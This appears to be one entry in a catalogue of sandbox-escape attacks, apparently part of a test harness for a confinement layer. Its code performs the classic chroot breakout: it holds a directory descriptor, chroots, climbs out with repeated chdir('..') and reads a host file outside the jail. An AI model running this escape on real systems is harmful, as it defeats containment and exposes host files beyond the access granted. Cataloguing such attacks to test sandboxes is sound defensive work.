"""Attack 177: chroot"""

IDEA = "Break out of a root with a root of one's own."
SOURCE = "chroot(2)"
WAY = "outside/files/of the host"
CODE = """
import os

os.makedirs("jail", exist_ok=True)
here = os.open(".", os.O_RDONLY)
os.chroot("jail")
os.fchdir(here)
for _ in range(30):
    os.chdir("..")
os.chroot(".")
print(open(T["file"]).read())
"""
ABSENT = ["HOST"]
WORKS_UNGUARDED = False
